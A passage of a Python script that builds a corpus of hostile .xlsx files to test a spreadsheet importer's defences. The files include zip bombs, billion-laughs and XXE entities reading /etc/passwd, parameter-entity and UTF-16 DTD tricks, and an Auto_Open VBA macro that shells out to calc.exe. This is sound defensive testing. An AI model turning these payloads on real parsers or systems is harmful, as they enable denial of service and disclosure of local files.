        # central directory: … plus version made by, comment length, disk, attributes, offset
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            dos_time,
            dos_date,
            m.crc,
            len(m.deflated),
            size,
            len(name),
            0,
            0,
            0,
            0,
            0o600 << 16,
            offset,
        )
        central += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


def export_members(rows: list[dict], form: str = "seuranta", **options: object) -> dict[str, bytes]:
    """The members of the xlsx write_export writes, in its order (name → content)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = write_export(Path(tmp) / "x.xlsx", rows, form, fmt="xlsx", **options)
        with zipfile.ZipFile(path) as z:
            return {i.filename: z.read(i.filename) for i in z.infolist()}


def workbook_bytes(members: dict[str, bytes], special: dict[str, ZipMember] | None = None) -> bytes:
    """A zip of `members`, with the members of `special` (already deflated) in their places."""
    special = special or {}
    return _zip_bytes([special.get(n) or deflated(n, data) for n, data in members.items()])


_INLINE = re.compile(
    rb'<c r="([A-Z]+[0-9]+)"((?: [a-z]+="[^"]*")*) t="inlineStr"><is><t([^>]*)>(.*?)</t></is></c>', re.S
)
SST_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def with_shared_strings(
    members: dict[str, bytes], encoding: str = "utf-8", doctype: str = "", keep_inline: bytes | None = None
) -> dict[str, bytes]:
    """The workbook as Excel writes it: every text cell of the sheet a shared string (openpyxl
    writes inline strings) but one whose text is `keep_inline`. `encoding` and `doctype` are for
    xl/sharedStrings.xml."""
    members = dict(members)
    strings: dict[bytes, int] = {}
    count = 0

    def shared(m: re.Match) -> bytes:
        nonlocal count
        if m[4] == keep_inline:
            return m[0]
        count += 1
        i = strings.setdefault(m[4], len(strings))
        return b'<c r="' + m[1] + b'"' + m[2] + b' t="s"><v>' + str(i).encode() + b"</v></c>"

    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = _INLINE.sub(shared, members[sheet])
    items = "".join(f'<si><t xml:space="preserve">{s.decode()}</t></si>' for s in strings)
    declaration = f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="yes"?>\n'
    root = f'<sst xmlns="{SST_NS.decode()}" count="{count}" uniqueCount="{len(strings)}">'
    sst = f"{declaration}{doctype}{root}{items}</sst>"
    members["xl/sharedStrings.xml"] = sst.encode(encoding)  # "utf-16": with its BOM
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>',
    )
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        b'Target="sharedStrings.xml" Id="rIdSst" /></Relationships>',
    )
    return members


def _bomb(rows: list[dict], mib: int, declared: int | None) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        members = export_members(rows)
        sheet = members[LYING_MEMBER]
        cut = sheet.index(b"<sheetData>") + len(b"<sheetData>")  # white space between rows: still valid XML
        bomb = padded(LYING_MEMBER, sheet[:cut], mib, sheet[cut:])
        bomb.declared = declared
        p.write_bytes(workbook_bytes(members, {LYING_MEMBER: bomb}))

    return write


_BOMB = [ok(a(129)), ok(a(130))]
entry(
    "pommi_rehellinen.xlsx",
    _bomb([w for w, _ in _BOMB], BOMB_MIB, None),
    personal=_personal(_BOMB),
    description=f"a good export whose sheet inflates to {BOMB_MIB} MiB of white space; the zip headers say so",
)
_LYING = [ok(a(131)), ok(a(132))]
entry(
    "pommi_valehteleva.xlsx",
    _bomb([w for w, _ in _LYING], LYING_MIB, LYING_DECLARED),
    personal=_personal(_LYING),
    description=f"the sheet inflates to {LYING_MIB} MiB; both zip headers say {LYING_DECLARED} bytes (CRC true)",
)

# --- DTDs: Excel never writes one. Each file is a good export but for its DTD, and the text an
# entity would give is `forbidden` (a test reads the same files without the DTD: they load).

ENTITY_MARK = "ENTITEETTI_TÄHÄN"  # an open-text answer, replaced by an entity reference
LAUGHS = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10)
)
BILLION_LAUGHS = f"<!DOCTYPE sst [{LAUGHS}]>"  # &lol9; is 10⁹ × "lol": 3 GB
SMALL_LAUGHS = (  # 1 000 × "nauru": small enough that expat (2.4+) expands it without complaint
    '<!DOCTYPE worksheet [<!ENTITY n0 "nauru"><!ENTITY n1 "&n0;&n0;&n0;&n0;&n0;&n0;&n0;&n0;&n0;&n0;">'
    '<!ENTITY n2 "&n1;&n1;&n1;&n1;&n1;&n1;&n1;&n1;&n1;&n1;"><!ENTITY n3 "&n2;&n2;&n2;&n2;&n2;&n2;&n2;&n2;&n2;&n2;">]>'
)
XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER = (
    "<!DOCTYPE sst ["
    "<!ENTITY % sisalto \"<!ENTITY piilo 'PARAMETRIENTITEETTI'>\"> %sisalto; "
    '<!ENTITY % ulkoinen SYSTEM "file:///etc/passwd"> %ulkoinen; ]>'
)
UTF16_DTD = '<!DOCTYPE sst [<!ENTITY u "UTF16LAAJENNUS">]>'
CORE_DTD = '<!DOCTYPE cp:coreProperties [<!ENTITY otsikko "YDINOMINAISUUS_LAAJENNETTU">]>'

_MARK_BYTES = ENTITY_MARK.encode()


def dtd_workbook(rows: list[dict], member: str, doctype: str, reference: str | None, encoding: str = "utf-8") -> bytes:
    """The export as a shared-string workbook with `doctype` at the start of `member` and the
    open-text answer ENTITY_MARK replaced by `reference` (an entity reference, e.g. "&xxe;").
    `doctype=""` and `reference=None` give the same workbook without the DTD: the control."""
    members = export_members(rows)
    if member == "xl/worksheets/sheet1.xml":  # the marked answer stays an inline string of the sheet
        members = with_shared_strings(members, keep_inline=_MARK_BYTES)
        sheet = members[member]
        if reference is not None:
            sheet = sheet.replace(_MARK_BYTES, reference.encode())
        members[member] = _after_declaration(sheet.decode(), doctype).encode()
    elif member == "xl/sharedStrings.xml":
        members = with_shared_strings(members, encoding=encoding, doctype=doctype)
        sst = members[member].decode(encoding)
        if reference is not None:
            sst = sst.replace(ENTITY_MARK, reference)
        members[member] = sst.encode(encoding)
    else:  # docProps/core.xml (the reference becomes the document's title) or another member
        members = with_shared_strings(members)
        xml = members[member].decode()
        if reference is not None:
            xml = xml.replace("</cp:coreProperties>", f"<dc:title>{reference}</dc:title></cp:coreProperties>")
        members[member] = _after_declaration(xml, doctype).encode()
    return workbook_bytes(members)


def _after_declaration(xml: str, doctype: str) -> str:
    """`doctype` where XML allows it: after the XML declaration, if there is one."""
    if xml.startswith("<?xml"):
        end = xml.index("?>") + 2
        return xml[:end] + doctype + xml[end:]
    return doctype + xml


@dataclass(frozen=True)
class DtdCase:
    member: str
    doctype: str
    reference: str | None
    encoding: str = "utf-8"


DTD_CASES: dict[str, DtdCase] = {}


def _dtd_entry(name: str, case: DtdCase, forbidden: set[str], description: str, n: int) -> None:
    rows = [ok(a(n)), ok(a(n + 1), text_successes=ENTITY_MARK)]
    written = [w for w, _ in rows]
    DTD_CASES[name] = case

    def write(p: Path) -> None:
        p.write_bytes(dtd_workbook(written, case.member, case.doctype, case.reference, case.encoding))

    entry(name, write, personal=_personal(rows), description=description, forbidden=forbidden)


_dtd_entry(
    "dtd_miljardi_naurua.xlsx",
    DtdCase("xl/sharedStrings.xml", BILLION_LAUGHS, "&lol9;"),
    {"lollollollol"},
    "billion laughs: &lol9; (10⁹ × 'lol') as a shared string of an open-text answer",
    133,
)
_dtd_entry(
    "dtd_pieni_entiteetti.xlsx",
    DtdCase("xl/worksheets/sheet1.xml", SMALL_LAUGHS, "&n3;"),
    {"nauruna"},
    "a small nested internal entity (1 000 × 'nauru') in an inline-string cell of the sheet",
    135,
)
_dtd_entry(
    "dtd_xxe_passwd.xlsx",
    DtdCase("xl/worksheets/sheet1.xml", XXE, "&xxe;"),
    {PASSWD_LINE},
    "an external entity SYSTEM 'file:///etc/passwd' used in a cell of the sheet",
    137,
)
_dtd_entry(
    "dtd_parametrientiteetti.xlsx",
    DtdCase("xl/sharedStrings.xml", PARAMETER, "&piilo;"),
    {"PARAMETRIENTITEETTI", PASSWD_LINE},
    "parameter entities in sharedStrings.xml: one declaring an entity used in a string, one external",
    139,
)
_dtd_entry(
    "dtd_utf16_jaetut.xlsx",
    DtdCase("xl/sharedStrings.xml", UTF16_DTD, "&u;", encoding="utf-16"),
    {"UTF16LAAJENNUS"},
    "sharedStrings.xml in UTF-16 (a byte search for '<!DOCTYPE' misses it) with an internal entity used in a string",
    141,
)
_dtd_entry(
    "dtd_utf16_ulkoinen.xlsx",
    DtdCase("xl/sharedStrings.xml", '<!DOCTYPE sst SYSTEM "http://example.invalid/ipsetl/sst.dtd">', None, "utf-16"),
    set(),
    "sharedStrings.xml in UTF-16 naming an external DTD, no entity (defusedxml lets such a DTD through)",
    151,
)
_dtd_entry(
    "dtd_ulkoinen_dtd.xlsx",
    DtdCase("xl/workbook.xml", '<!DOCTYPE workbook SYSTEM "http://example.invalid/ipsetl/workbook.dtd">', None),
    set(),
    "no entity at all: xl/workbook.xml names an external DTD (a request to a server, were it fetched)",
    149,
)
_dtd_entry(
    "dtd_ominaisuudet.xlsx",
    DtdCase("docProps/core.xml", CORE_DTD, "&otsikko;"),
    {"YDINOMINAISUUS_LAAJENNETTU"},
    "an internal entity in docProps/core.xml (the document title), a member no answer comes from",
    143,
)

# --- a macro-enabled workbook renamed .xlsx

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
VBA_SOURCE = 'Sub Auto_Open()\r\n    Shell "cmd /c calc.exe"\r\nEnd Sub\r\n'


def macro_workbook(rows: list[dict]) -> bytes:
    """An export made macro-enabled as Excel saves an .xlsm: xl/vbaProject.bin (an OLE compound
    file; here its magic and seeded bytes around the VBA source), its relationship, and the
    macro-enabled content type of the workbook part."""
    members = export_members(rows)
    members["[Content_Types].xml"] = (
        members["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            b'<Default Extension="xml"',
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" /><Default Extension="xml"',
        )
    )
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin" Id="rIdVba" /></Relationships>',
    )
    rnd = _rnd("vba")
    members["xl/vbaProject.bin"] = OLE_MAGIC + rnd.randbytes(1500) + VBA_SOURCE.encode("cp1252") + rnd.randbytes(1500)
    return workbook_bytes(members)


_MACROS = [ok(a(145)), ok(a(146)), ok(a(147))]
entry(
    "makrot.xlsx",
    lambda p: p.write_bytes(macro_workbook([w for w, _ in _MACROS])),
    "seuranta",
    _MACROS,
    description="a macro-enabled workbook (xl/vbaProject.bin, macroEnabled content type) renamed .xlsx",
    forbidden={"Auto_Open", "calc.exe"},
)


def build(dir: Path) -> None:  # noqa: A002 - the name the tests call it by
    """Write every corpus file into `dir` (created if needed)."""
    dir = Path(dir)
    dir.mkdir(parents=True, exist_ok=True)
    for e in ENTRIES:
        e.write(dir / e.name)


def planted_personal() -> set[str]:
    return {p for e in ENTRIES for p in e.personal}


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus_out")
    build(target)
    for e in ENTRIES:
        print(f"{e.name:45} {(target / e.name).stat().st_size:>9}  {e.description}")
